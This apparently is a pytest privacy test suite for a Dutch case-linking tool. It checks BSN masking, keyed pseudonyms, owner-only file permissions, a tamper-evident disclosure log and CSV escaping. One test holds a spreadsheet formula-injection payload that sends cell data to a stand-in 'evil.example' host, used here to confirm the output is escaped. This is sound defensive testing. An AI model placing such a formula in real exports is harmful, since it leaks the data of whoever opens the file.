"""Privacy: no BSN in any output of a full run unless revealed; keyed pseudonyms match across
organisations; the key never reaches the store; owner-only files; a tamper-evident disclosure log."""

from __future__ import annotations

import json
import sqlite3
import stat
from pathlib import Path
from typing import Any

import pytest

REPO = Path(__file__).resolve().parents[2]
SAMPLES = REPO / "samples"
LEVELS = ("strategic", "tactical", "operational")
FORMATS = ("text", "markdown", "csv", "json", "html")
KEY = "test-sleutel-0123456789-abcdefghij"


def _bsn_hits(text: str, bsns: list[str]) -> list[str]:
    return [b for b in bsns if b in text]


_COMMANDS = r"""
import json, sys
from click.testing import CliRunner
from dossierlink.cli import main

db, commands = sys.argv[1], json.loads(sys.argv[2])
runner = CliRunner()
for args in commands:
    r = runner.invoke(main, ["--db", db, *args])
    assert r.exit_code in (0, 1), (args, r.output, r.exception)
    print(r.output)
"""


def _in_one_process(db: Path, commands: list[list[str]]) -> str:
    import os
    import subprocess
    import sys

    env = dict(os.environ)
    env.pop("DOSSIERLINK_PSEUDONYM_KEY", None)
    r = subprocess.run(
        [sys.executable, "-c", _COMMANDS, str(db), json.dumps(commands)],
        capture_output=True,
        text=True,
        timeout=240,
        env=env,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    return r.stdout + r.stderr


_DOSSIERS = r"""
import json, sys
from click.testing import CliRunner
from dossierlink.cli import main

db, reveal, anchors = sys.argv[1], sys.argv[2] == "1", json.loads(sys.argv[3])
runner = CliRunner()
for anchor in anchors:
    for extra in (["--json"], []):
        args = ["--db", db, "dossier", *extra, *(["--reveal"] if reveal else []), anchor]
        r = runner.invoke(main, args)
        assert r.exit_code == 0, (args, r.output, r.exception)
        print(r.output)
"""


def _dossiers_in_one_process(db: Path, anchors: list[str], *, reveal: bool) -> str:
    import os
    import subprocess
    import sys

    env = dict(os.environ)
    env.pop("DOSSIERLINK_PSEUDONYM_KEY", None)
    r = subprocess.run(
        [sys.executable, "-c", _DOSSIERS, str(db), "1" if reveal else "0", json.dumps(anchors)],
        capture_output=True,
        text=True,
        timeout=240,
        env=env,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    return r.stdout + r.stderr


def _hostile_exports_with_a_bsn(folder: Path, bsn: str, make: Any) -> list[Path]:
    """Bad files that carry a BSN where an error message could echo it."""
    folder.mkdir(parents=True)
    wrong_column = make.politie_csv(folder / "bsn-als-datum.csv", [7000])
    text = wrong_column.read_text().splitlines()
    cells = text[1].split(";")
    cells[4] = bsn  # the BSN typed into 'Datum document'
    text[1] = ";".join(cells)
    wrong_column.write_text("\n".join(text) + "\n")
    om = folder / "bsn-als-parketnummer.json"
    om.write_text(
        json.dumps({"omZaakExport": {}, "zaken": [{"parketnummer": bsn, "verdachte": {"bsn": bsn[:-1]}}]})
    )
    truncated = folder / "afgebroken.json"
    truncated.write_text(
        '{"omZaakExport": {}, "zaken": [{"parketnummer": "10/600040-23", "verdachte": {"bsn": "' + bsn
    )
    return [wrong_column, om, truncated]


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_a_full_run_on_the_samples_shows_no_bsn_anywhere_unless_revealed(
    tmp_path: Path, make: Any, cli: Any, sample_bsns: list[str]
) -> None:
    assert sample_bsns, "the samples should use BSNs for this test to mean anything"
    db = tmp_path / "keten.db"
    out = tmp_path / "out"
    out.mkdir()
    quarantine = tmp_path / "quarantaine"
    outputs: list[str] = []

    def run(*args: str, expect: tuple[int, ...] = (0, 1)) -> Any:
        r = cli(["--db", str(db), *args], timeout=240)
        assert r.returncode in expect, (args, r.returncode, r.stderr[-1500:])
        outputs.append(f"$ {' '.join(args)}\n{r.stdout}\n{r.stderr}")
        return r

    inputs = [SAMPLES / "exports"] + [p for p in (SAMPLES / "scans", SAMPLES / "inventory") if p.is_dir()]
    run("--debug", "ingest", "--quarantine", str(quarantine), *map(str, inputs), expect=(0, 2))
    # (the BSN-as-date and BSN-as-parketnummer files are left out here: they are the strict xfails below)
    bad = _hostile_exports_with_a_bsn(tmp_path / "slecht", sample_bsns[0], make)[2:]
    run("--debug", "ingest", "--quarantine", str(quarantine), *map(str, bad), expect=(2,))
    run("reconcile", "--all")
    conn = sqlite3.connect(db)
    anchors = [
        r[0].split(":", 1)[1]
        for r in conn.execute("SELECT anchor FROM dossiers WHERE merged_into IS NULL AND anchor IS NOT NULL")
    ]
    conn.close()
    assert anchors
    commands: list[tuple[str, ...]] = []
    for level in LEVELS:
        for fmt in FORMATS:
            if fmt == "text":
                commands.append(("report", "--level", level, "--format", fmt, "--recipient", "test"))
            else:
                commands.append(
                    ("report", "--level", level, "--format", fmt, "-o", str(out / f"{level}.{fmt}"))
                )
    commands += [("divergences",), ("divergences", "--json", "--status", "all"), ("stats",), ("disclosures",)]
    run(*commands[0])  # one report through a fresh process, with its logging as a user gets it
    # The rest, and every case as text and JSON, through the real CLI in one process (start-up is slow).
    outputs.append(_in_one_process(db, [list(c) for c in commands[1:]]))
    outputs.append(_dossiers_in_one_process(db, anchors, reveal=False))

    leaks: dict[str, list[str]] = {}
    for i, text in enumerate(outputs):
        if hits := _bsn_hits(text, sample_bsns):
            leaks[f"output {i}: {text.splitlines()[0]}"] = hits
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    for path in written:
        if path.name.startswith("keten.db") or path.parent == tmp_path / "slecht":
            continue  # the store itself and the hostile inputs hold BSNs by design
        if path.is_relative_to(quarantine) and not path.name.endswith(".error.json"):
            continue  # a byte-for-byte copy of the rejected original
        if hits := _bsn_hits(path.read_text(encoding="utf-8", errors="replace"), sample_bsns):
            leaks[str(path.relative_to(tmp_path))] = hits
    assert not leaks, f"BSNs leaked: {leaks}"

    # Revealed on purpose: then they may (and for the dossier, do) appear.
    revealed = _dossiers_in_one_process(db, anchors, reveal=True)
    assert _bsn_hits(revealed, sample_bsns), "--reveal should show the BSNs"


@pytest.mark.timeout(120)
def test_a_bsn_in_the_wrong_column_is_masked_in_the_quarantine_reason(
    tmp_path: Path, make: Any, cli: Any
) -> None:
    from dossierlink.identifiers import is_valid_bsn

    bsn = "999000007"
    assert is_valid_bsn(bsn)
    bad = _hostile_exports_with_a_bsn(tmp_path / "slecht", bsn, make)[0]
    quarantine = tmp_path / "q"
    r = cli(["--db", str(tmp_path / "k.db"), "ingest", "--quarantine", str(quarantine), str(bad)])
    assert r.returncode == 2
    sidecars = "".join(p.read_text() for p in quarantine.rglob("*.error.json"))
    assert sidecars, "a quarantined file gets a sidecar"
    assert bsn not in r.stderr + r.stdout + sidecars


@pytest.mark.timeout(120)
def test_a_bsn_typed_as_a_parketnummer_is_masked_in_divergences_json(
    tmp_path: Path, make: Any, quick_cli: Any
) -> None:
    bsn = "999000007"
    bad = _hostile_exports_with_a_bsn(tmp_path / "slecht", bsn, make)[1]
    db = tmp_path / "k.db"
    quick_cli(["--db", str(db), "ingest", str(bad)])
    listed = quick_cli(["--db", str(db), "divergences", "--json", "--status", "all"])
    assert listed.returncode == 0 and "identifier_conflict" in listed.stdout
    assert bsn not in listed.stdout


def _db_bytes(db: Path) -> bytes:
    return b"".join(p.read_bytes() for p in db.parent.glob(db.name + "*"))


@pytest.mark.timeout(120)
def test_two_organisations_with_the_same_key_get_the_same_pseudonym_and_the_key_stays_out(
    tmp_path: Path, make: Any, quick_cli: Any
) -> None:
    cases = range(8000, 8005)
    bsns = [make.bsn(i) for i in cases]
    politie_db, om_db, other_db = tmp_path / "politie.db", tmp_path / "om.db", tmp_path / "ander.db"
    p_export = make.politie_csv(tmp_path / "politie" / "registraties.csv", cases)
    o_export = make.om_json(tmp_path / "om" / "zaken.json", cases)
    env = {"DOSSIERLINK_PSEUDONYM_KEY": KEY}
    assert quick_cli(["--db", str(politie_db), "ingest", str(p_export)], env=env).returncode == 0
    assert quick_cli(["--db", str(om_db), "ingest", str(o_export)], env=env).returncode == 0
    other_key = {"DOSSIERLINK_PSEUDONYM_KEY": KEY[::-1]}
    assert quick_cli(["--db", str(other_db), "ingest", str(o_export)], env=other_key).returncode == 0

    def pseudonyms(db: Path) -> dict[str, str]:
        conn = sqlite3.connect(db)
        try:
            return {skn: b for skn, b in conn.execute("SELECT skn, bsn FROM persons WHERE bsn IS NOT NULL")}
        finally:
            conn.close()

    politie, om, other = pseudonyms(politie_db), pseudonyms(om_db), pseudonyms(other_db)
    assert len(politie) == len(cases)
    assert politie == om, "the same BSN under the same key must give the same pseudonym"
    assert all(v.startswith("ps:") for v in politie.values())
    assert not set(other.values()) & set(om.values()), "another key must give other pseudonyms"
    for db in (politie_db, om_db, other_db):
        data = _db_bytes(db)
        assert KEY.encode() not in data and KEY[::-1].encode() not in data, "the key reached the store"
        leaked = [b for b in bsns if b.encode() in data]
        assert not leaked, f"raw BSNs in {db.name}: {leaked}"


@pytest.mark.timeout(120)
def test_the_store_and_the_quarantine_are_owner_only_whatever_the_umask(tmp_path: Path, make: Any) -> None:
    import os
    import subprocess
    import sys

    bad = tmp_path / "in" / "kapot.json"
    bad.parent.mkdir()
    bad.write_text('{"omZaakExport": {}, "zaken": [')
    good = make.politie_csv(tmp_path / "in" / "registraties.csv", [8100])
    db, quarantine = tmp_path / "keten.db", tmp_path / "quarantaine"
    env = dict(os.environ)
    env.pop("DOSSIERLINK_PSEUDONYM_KEY", None)
    script = (
        "import os, sys, dossierlink; os.umask(0); "
        "c = dossierlink.open(sys.argv[1]); "
        "c.ingest([sys.argv[3], sys.argv[4]], quarantine=sys.argv[2]); c.close()"
    )
    subprocess.run(
        [sys.executable, "-c", script, str(db), str(quarantine), str(good), str(bad)], check=True, env=env
    )
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    for side in db.parent.glob("keten.db-*"):
        assert stat.S_IMODE(side.stat().st_mode) == 0o600, side
    folders = [quarantine, *(p for p in quarantine.rglob("*") if p.is_dir())]
    files = [p for p in quarantine.rglob("*") if p.is_file()]
    assert len(files) == 2, files  # the copy and its .error.json
    for d in folders:
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
    for f in files:
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f


@pytest.mark.timeout(120)
def test_an_edited_or_removed_disclosure_is_detected(tmp_path: Path, make: Any, quick_cli: Any) -> None:
    db = tmp_path / "keten.db"
    make.politie_csv(tmp_path / "in" / "registraties.csv", range(8200, 8203))
    make.om_json(tmp_path / "in" / "zaken.json", range(8200, 8203))
    assert quick_cli(["--db", str(db), "ingest", str(tmp_path / "in")]).returncode == 0
    for recipient in ("rechtbank", "advocaat", "onderzoeker"):
        r = quick_cli(["--db", str(db), "report", "--format", "json", "--recipient", recipient])
        assert r.returncode in (0, 1), r.stderr
    ok = quick_cli(["--db", str(db), "disclosures", "--verify"])
    assert ok.returncode == 0, ok.stdout + ok.stderr

    conn = sqlite3.connect(db)
    conn.execute(
        "UPDATE disclosures SET recipient = 'niemand' WHERE id = (SELECT min(id) + 1 FROM disclosures)"
    )
    conn.commit()
    edited = quick_cli(["--db", str(db), "disclosures", "--verify"])
    assert edited.returncode == 1, edited.stdout + edited.stderr
    conn.execute(
        "UPDATE disclosures SET recipient = 'advocaat' WHERE id = (SELECT min(id) + 1 FROM disclosures)"
    )
    conn.commit()
    assert quick_cli(["--db", str(db), "disclosures", "--verify"]).returncode == 0
    conn.execute("DELETE FROM disclosures WHERE id = (SELECT min(id) + 1 FROM disclosures)")
    conn.commit()
    conn.close()
    removed = quick_cli(["--db", str(db), "disclosures", "--verify"])
    assert removed.returncode == 1, removed.stdout + removed.stderr


@pytest.mark.timeout(120)
def test_a_formula_in_an_om_title_comes_out_escaped_in_the_csv_report(
    tmp_path: Path, make: Any, quick_cli: Any
) -> None:
    import csv
    import io

    db = tmp_path / "keten.db"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    make.politie_csv(tmp_path / "in" / "registraties.csv", [8300])
    make.om_json(tmp_path / "in" / "zaken.json", [8300], title=formula, pages=9)  # a metadata conflict
    r = quick_cli(["--db", str(db), "ingest", str(tmp_path / "in")])
    assert r.returncode == 0, r.stderr
    report = quick_cli(["--db", str(db), "report", "--level", "operational", "--format", "csv"])
    assert report.returncode in (0, 1), report.stderr
    cells = [c for row in csv.reader(io.StringIO(report.stdout)) for c in row]
    assert any("HYPERLINK" in c for c in cells), "the formula should reach the report for this test to bite"
    bad = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not bad, f"cells a spreadsheet would run: {bad}"
